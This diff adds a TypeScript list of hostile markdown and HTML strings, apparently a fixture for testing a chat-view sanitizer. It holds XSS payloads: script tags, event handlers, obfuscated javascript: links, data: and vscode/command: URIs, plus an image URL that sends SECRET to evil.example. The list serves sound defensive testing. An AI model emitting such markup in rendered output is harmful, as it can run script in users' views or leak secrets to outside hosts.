@@ -1,0 +1,23 @@
+/** Model outputs that try to get script, handlers or dangerous URLs into the chat view. */
+export const HOSTILE_MARKDOWN: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x]( javascript:alert(1))',
+  '[x](java&#x09;script:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '<a href="javascript:alert(1)">click</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<svg onload=alert(1)><circle/></svg>',
+  '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[v](vscode:extension/evil) [c](command:workbench.action.terminal.sendSequence)',
+  '<javascript:alert(1)>',
+  '[ref][1]\n\n[1]: javascript:alert(1)',
+  '![img](javascript:alert(1)) ![leak](https://evil.example/?q=SECRET)',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\ncode\n```',
+  '<div onclick="alert(1)">x</div> <b style="x" onmouseover=alert(1)>y</b>',
+  '<details open ontoggle=alert(1)>z</details>',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+];
